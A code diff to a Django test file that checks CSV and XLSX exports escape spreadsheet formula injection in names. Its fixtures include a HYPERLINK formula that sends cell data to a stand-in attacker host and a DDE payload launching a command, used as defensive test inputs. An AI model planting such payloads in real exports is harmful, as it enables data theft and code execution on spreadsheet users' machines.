@@ -19,6 +19,8 @@ from tests.positions.test_allowance import MARCH, in_post
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"1+150")'
 FULL_WIDTH = "＝1+150＋CMD|' /C calc'!A0"
+# What a spreadsheet would run, spelled out here rather than read from the module under test.
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1"]
 
 
@@ -111,7 +113,7 @@ def test_the_workers_list_export_writes_a_hostile_name_as_text(as_user, network,
     if fmt == "csv":
         values = csv_values(body_of(response))
         assert "'" + FULL_WIDTH in values and "'" + HOSTILE in values
-        assert not any(value.startswith(FORMULA_STARTS) for value in values)
+        assert not any(value.startswith(DANGEROUS) for value in values)
     else:
         cells = xlsx_cells(body_of(response))
         assert_text_not_formula(cells, FULL_WIDTH)
@@ -137,13 +139,12 @@ def test_casework_csv_exports_write_a_hostile_client_name_as_text(as_user, netwo
     response = as_user(station_manager).get(reverse(url))
     assert response.status_code == 200
     values = csv_values(body_of(response))
-    assert not any(value.startswith(FORMULA_STARTS) for value in values)
-    if url == "casework:client_export":
-        assert "'" + FULL_WIDTH in values and "'" + HOSTILE in values
+    assert not any(value.startswith(DANGEROUS) for value in values)
+    assert "'" + FULL_WIDTH in values and "'" + HOSTILE in values  # the main client's name
 
 
 def test_the_annual_report_workbook_writes_a_hostile_town_name_as_text(
-    as_user, network, district_admin, django_capture_on_commit_callbacks
+    api, as_user, network, district_admin, django_capture_on_commit_callbacks
 ):
     network.town_a.name = FULL_WIDTH
     network.town_a.save()
@@ -155,6 +156,8 @@ def test_the_annual_report_workbook_writes_a_hostile_town_name_as_text(
     assert report.status == AnnualReport.Status.DONE
     response = client.get(f"/reports/annual/{report.pk}/xlsx/")
     assert_text_not_formula(xlsx_cells(body_of(response)), FULL_WIDTH)
+    through_api = api(district_admin).get(f"/api/v1/reports/{report.pk}/download/?format=xlsx")
+    assert_text_not_formula(xlsx_cells(body_of(through_api)), FULL_WIDTH)
 
 
 def test_the_import_template_writes_a_hostile_host_institution_as_text(as_user, network, district_admin):
